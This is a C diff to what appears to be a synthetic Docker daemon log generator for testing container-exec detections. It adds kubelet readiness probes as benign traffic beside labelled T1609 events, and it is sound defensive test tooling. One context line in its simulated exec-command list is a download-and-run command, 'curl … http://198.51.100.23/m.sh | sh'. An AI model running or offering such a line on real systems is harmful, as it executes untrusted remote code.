@@ -20,9 +20,21 @@ typedef struct dcontainer {
     const char *image;
 } dcontainer;
 
+/* A kubelet exec probe through cri-dockerd: the same command in the same
+ * container every period, from `next` until `until`. */
+typedef struct dprobe {
+    dcontainer d;
+    const char *const *argv;
+    int64_t next, until;
+} dprobe;
+
+#define PROBE_PERIOD (10 * GEN_NS_PER_SEC)    /* periodSeconds: 10 */
+
 typedef struct dworld {
     dcontainer run[24];         /* running containers */
     size_t n_run;
+    dprobe probes[8];
+    size_t n_probes;
     uint64_t next_name;
     cq_strbuf msg;              /* scratch: the msg value before quoting */
 } dworld;
@@ -113,18 +125,22 @@ static void put_argv_json(cq_strbuf *b, const char *const *argv)
     gen_putc(b, ']');
 }
 
+/* An exec sequence: create (+ form data), start (+ form data), the attach
+ * lines, inspect.  probe: the kubelet's ExecSync through cri-dockerd, whose
+ * client speaks API 1.41 (no ConsoleSize yet) and never allocates a TTY. */
 static int64_t exec_in(gen_ctx *c, dworld *w, int64_t t, const dcontainer *d,
-                       const char *const *argv, int versioned)
+                       const char *const *argv, int versioned, int probe)
 {
-    const char *pre = api_prefix(c, versioned);
+    const char *pre = probe ? "/v1.41" : api_prefix(c, versioned);
     char path[128], eid[65];
     cq_strbuf b = CQ_STRBUF_INIT;
     gen_put_hex(&b, &c->rng, 64);
     memcpy(eid, b.buf, 65);
-    int tty = !argv[1] && (!strcmp(argv[0], "sh") || !strcmp(argv[0], "bash"));
+    int tty = !probe && !argv[1] && (!strcmp(argv[0], "sh") || !strcmp(argv[0], "bash"));
 
     cq_strbuf_reset(&b);
-    gen_put(&b, "docker exec in ");
+    gen_put(&b, probe ? "kubelet exec probe via cri-dockerd, every 10 s, in "
+                      : "docker exec in ");
     gen_put(&b, d->name);
     gen_put(&b, " (");
     gen_put(&b, d->id);
@@ -135,6 +151,8 @@ static int64_t exec_in(gen_ctx *c, dworld *w, int64_t t, const dcontainer *d,
     }
     gen_truth(c, "T1609-001", t, "docker:daemon", b.buf);
     gen_truth(c, "T1609-002", t, "docker:daemon", b.buf);
+    if (probe)
+        gen_truth(c, "benign", t, "docker:daemon", b.buf);
     memcpy(path, "/containers/", 12);
     memcpy(path + 12, d->id, 64);
     memcpy(path + 76, "/exec", 6);
@@ -144,9 +162,12 @@ static int64_t exec_in(gen_ctx *c, dworld *w, int64_t t, const dcontainer *d,
     gen_put(&b, tty ? "true" : "false");
     gen_put(&b, ",\"AttachStdout\":true,\"Cmd\":");
     put_argv_json(&b, argv);
-    gen_put(&b, ",\"ConsoleSize\":[");
-    gen_put(&b, tty ? "48,160" : "0,0");
-    gen_put(&b, "],\"Detach\":false,\"DetachKeys\":\"\",\"Env\":null,\"Privileged\":false,\"Tty\":");
+    if (!probe) {
+        gen_put(&b, ",\"ConsoleSize\":[");
+        gen_put(&b, tty ? "48,160" : "0,0");
+        gen_putc(&b, ']');
+    }
+    gen_put(&b, ",\"Detach\":false,\"DetachKeys\":\"\",\"Env\":null,\"Privileged\":false,\"Tty\":");
     gen_put(&b, tty ? "true" : "false");
     gen_put(&b, ",\"User\":\"\",\"WorkingDir\":\"\"}");
     t += step(c, 300);
@@ -158,8 +179,9 @@ static int64_t exec_in(gen_ctx *c, dworld *w, int64_t t, const dcontainer *d,
     memcpy(path + 70, "/start", 7);
     calling(c, w, t, "POST", pre, path);
     t += step(c, 200);
-    form_data(c, w, t, tty ? "{\"ConsoleSize\":[48,160],\"Detach\":false,\"Tty\":true}"
-                           : "{\"ConsoleSize\":[0,0],\"Detach\":false,\"Tty\":false}");
+    form_data(c, w, t, probe ? "{\"Detach\":false,\"Tty\":false}"
+                       : tty ? "{\"ConsoleSize\":[48,160],\"Detach\":false,\"Tty\":true}"
+                             : "{\"ConsoleSize\":[0,0],\"Detach\":false,\"Tty\":false}");
     t += step(c, 300);
     gen_put(&w->msg, "starting exec command ");
     gen_put(&w->msg, eid);
@@ -172,7 +194,7 @@ static int64_t exec_in(gen_ctx *c, dworld *w, int64_t t, const dcontainer *d,
                                       "attach done"};
     for (size_t i = 0; i < 5; i++) {
         t += i == 2 ? (tty ? gen_exp_ns(&c->rng, 120 * GEN_NS_PER_SEC)
-                           : step(c, 300000))
+                           : step(c, probe ? 30000 : 300000))
                     : step(c, 100);
         gen_put(&w->msg, att[i]);
         line(c, w, t, "debug");
@@ -186,7 +208,7 @@ static int64_t exec_in(gen_ctx *c, dworld *w, int64_t t, const dcontainer *d,
 }
 
 static void create_form(cq_strbuf *b, const char *image, int privileged,
-                        const char *binds)
+                        const char *binds, const char *labels)
 {
     gen_put(b, "{\"AttachStderr\":false,\"AttachStdin\":false,\"AttachStdout\":false,"
                "\"Cmd\":null,\"Domainname\":\"\",\"Entrypoint\":null,\"Env\":[],"
@@ -204,7 +226,9 @@ static void create_form(cq_strbuf *b, const char *image, int privileged,
                "\"ShmSize\":0,\"UTSMode\":\"\",\"UsernsMode\":\"\",\"VolumeDriver\":\"\","
                "\"VolumesFrom\":null},\"Hostname\":\"\",\"Image\":");
     gen_put_jstr(b, image);
-    gen_put(b, ",\"Labels\":{},\"NetworkingConfig\":{\"EndpointsConfig\":{}},"
+    gen_put(b, ",\"Labels\":");
+    gen_put(b, labels ? labels : "{}");
+    gen_put(b, ",\"NetworkingConfig\":{\"EndpointsConfig\":{}},"
                "\"OnBuild\":null,\"OpenStdin\":false,\"StdinOnce\":false,\"Tty\":false,"
                "\"User\":\"\",\"Volumes\":{},\"WorkingDir\":\"\"}");
 }
@@ -225,7 +249,7 @@ static int64_t docker_run(gen_ctx *c, dworld *w, int64_t t, const gen_docker_opt
     memcpy(path + 24, d.name, strlen(d.name) + 1);
     calling(c, w, t, "POST", pre, path);
     cq_strbuf b = CQ_STRBUF_INIT;
-    create_form(&b, d.image, priv, binds);
+    create_form(&b, d.image, priv, binds, NULL);
     t += step(c, 300);
     form_data(c, w, t, b.buf);
     cq_strbuf_free(&b);
@@ -358,6 +382,109 @@ static const char *const *const dexec_cmds[] = {
     (const char *const[]){"sh", "-c", "curl -fsSL http://198.51.100.23/m.sh | sh", NULL},
 };
 
+/* Pods whose containers have exec readiness probes, as the kubelet runs
+ * them on a node with cri-dockerd. */
+static const struct {
+    const char *ns, *pod, *container, *image;
+    const char *const *argv;
+} probed[] = {
+    {"kafka", "zk-0", "zookeeper", "zookeeper:3.8.4",
+     (const char *const[]){"sh", "-c", "zookeeper-ready 2181", NULL}},
+    {"orders", "orders-db-0", "postgres", "postgres:16",
+     (const char *const[]){"/bin/sh", "-c", "pg_isready -U postgres -h 127.0.0.1 -p 5432", NULL}},
+    {"default", "liveness-exec", "liveness", "registry.k8s.io/busybox",
+     (const char *const[]){"cat", "/tmp/healthy", NULL}},
+};
+#define N_PROBED (sizeof probed / sizeof *probed)
+
+/* cri-dockerd starts pod k's container (k8s_<container>_<pod>_<ns>_<uid>_0,
+ * io.kubernetes.* labels) at t; its probe runs from t + 5 s
+ * (initialDelaySeconds) for `window` (0: to the end). */
+static void k8s_container(gen_ctx *c, dworld *w, int64_t t, size_t k, int64_t window,
+                          int truth)
+{
+    if (w->n_probes == sizeof w->probes / sizeof *w->probes)
+        return;
+    dprobe *p = &w->probes[w->n_probes++];
+    cq_strbuf b = CQ_STRBUF_INIT, lab = CQ_STRBUF_INIT;
+    gen_put_hex(&b, &c->rng, 64);
+    memcpy(p->d.id, b.buf, 65);
+    memcpy(p->d.name, probed[k].pod, strlen(probed[k].pod) + 1);
+    p->d.image = probed[k].image;
+    p->argv = probed[k].argv;
+    p->next = t + 5 * GEN_NS_PER_SEC;
+    p->until = window ? t + window : INT64_MAX;
+    char uid[40];
+    cq_strbuf_reset(&b);
+    gen_put_uuid_of(&b, gen_hash(probed[k].pod, 13));
+    memcpy(uid, b.buf, 37);
+    gen_put(&lab, "{\"annotation.io.kubernetes.container.restartCount\":\"0\","
+                  "\"io.kubernetes.container.logpath\":\"/var/log/pods/");
+    gen_put(&lab, probed[k].ns);
+    gen_putc(&lab, '_');
+    gen_put(&lab, probed[k].pod);
+    gen_putc(&lab, '_');
+    gen_put(&lab, uid);
+    gen_putc(&lab, '/');
+    gen_put(&lab, probed[k].container);
+    gen_put(&lab, "/0.log\",\"io.kubernetes.container.name\":\"");
+    gen_put(&lab, probed[k].container);
+    gen_put(&lab, "\",\"io.kubernetes.docker.type\":\"container\",\"io.kubernetes.pod.name\":\"");
+    gen_put(&lab, probed[k].pod);
+    gen_put(&lab, "\",\"io.kubernetes.pod.namespace\":\"");
+    gen_put(&lab, probed[k].ns);
+    gen_put(&lab, "\",\"io.kubernetes.pod.uid\":\"");
+    gen_put(&lab, uid);
+    gen_put(&lab, "\",\"io.kubernetes.sandbox.id\":\"");
+    gen_put_hex(&lab, &c->rng, 64);
+    gen_put(&lab, "\"}");
+    cq_strbuf_reset(&b);
+    gen_put(&b, "/containers/create?name=k8s_");
+    gen_put(&b, probed[k].container);
+    gen_putc(&b, '_');
+    gen_put(&b, probed[k].pod);
+    gen_putc(&b, '_');
+    gen_put(&b, probed[k].ns);
+    gen_putc(&b, '_');
+    gen_put(&b, uid);
+    gen_put(&b, "_0");
+    calling(c, w, t, "POST", "/v1.41", b.buf);
+    cq_strbuf_reset(&b);
+    create_form(&b, probed[k].image, 0, NULL, lab.buf);
+    t += step(c, 300);
+    form_data(c, w, t, b.buf);
+    t += step(c, 40000);
+    if (truth) {
+        cq_strbuf_reset(&w->msg);
+        gen_put(&w->msg, "container start (cri-dockerd for the kubelet) ");
+        gen_put(&w->msg, probed[k].ns);
+        gen_putc(&w->msg, '/');
+        gen_put(&w->msg, probed[k].pod);
+        gen_putc(&w->msg, ' ');
+        gen_put(&w->msg, probed[k].container);
+        gen_truth(c, "T1609-002", t, "docker:daemon", w->msg.buf);
+        cq_strbuf_reset(&w->msg);
+    }
+    cq_strbuf_reset(&b);
+    gen_put(&b, "/containers/");
+    gen_put(&b, p->d.id);
+    gen_put(&b, "/start");
+    calling(c, w, t, "POST", "/v1.41", b.buf);
+    cq_strbuf_free(&b);
+    cq_strbuf_free(&lab);
+}
+
+/* Runs every probe due by `now`, at its exact period. */
+static void run_probes(gen_ctx *c, dworld *w, int64_t now)
+{
+    for (size_t i = 0; i < w->n_probes; i++) {
+        dprobe *p = &w->probes[i];
+        for (; p->next <= now && p->next < p->until; p->next += PROBE_PERIOD)
+            exec_in(c, w, p->next + gen_below(&c->rng, 2000) * GEN_NS_PER_US, &p->d,
+                    p->argv, 1, 1);
+    }
+}
+
 void gen_docker_run(gen_ctx *c, const gen_docker_opts *o,
                     void (*inject)(gen_ctx *, void *), void *arg)
 {
@@ -369,6 +496,8 @@ void gen_docker_run(gen_ctx *c, const gen_docker_opts *o,
     c->state = w;
     for (int i = 0; i < 12; i++)
         new_container(c, w, &w->run[w->n_run++]);
+    for (int i = 0; i < o->probes && i < (int)N_PROBED; i++)
+        k8s_container(c, w, c->now, (size_t)i, 0, o->truth_starts);
     static const double wt[] = {20, 15, 4, 2, 3, 9, 9, 3, 8, 0.5, 1.2, 1.0};
     while (!gen_done(c)) {
         c->now += gen_exp_ns(&c->rng, (int64_t)o->mean_gap_ns);
@@ -376,12 +505,13 @@ void gen_docker_run(gen_ctx *c, const gen_docker_opts *o,
             break;
         if (inject)
             inject(c, arg);
+        run_probes(c, w, c->now);
         size_t k = gen_pick(&c->rng, wt, sizeof wt / sizeof *wt);
         if (o->exec_rate > 0 && gen_chance(&c->rng, o->exec_rate)) {
             const dcontainer *d = &w->run[gen_below(&c->rng, (uint32_t)w->n_run)];
             exec_in(c, w, c->now, d,
                     dexec_cmds[gen_below(&c->rng, sizeof dexec_cmds / sizeof *dexec_cmds)],
-                    gen_chance(&c->rng, 0.9));
+                    gen_chance(&c->rng, 0.9), 0);
         } else if (k < 10) {
             poll(c, w, c->now, k);
         } else if (k == 10) {
@@ -402,7 +532,7 @@ int64_t gen_docker_exec(gen_ctx *c, int64_t t, const char *const *argv,
 {
     dworld *w = c->state;
     return exec_in(c, w, t, &w->run[gen_below(&c->rng, (uint32_t)w->n_run)], argv,
-                   versioned);
+                   versioned, 0);
 }
 
 int64_t gen_docker_benign(gen_ctx *c, int64_t t, const char *what)
@@ -417,4 +547,10 @@ int64_t gen_docker_benign(gen_ctx *c, int64_t t, const char *what)
     else
         poll(c, w, t, 5);
     return t;
+}
+
+void gen_docker_k8s_pod(gen_ctx *c, int64_t t, size_t which, int64_t window)
+{
+    dworld *w = c->state;
+    k8s_container(c, w, t, which % N_PROBED, window, 1);
 }
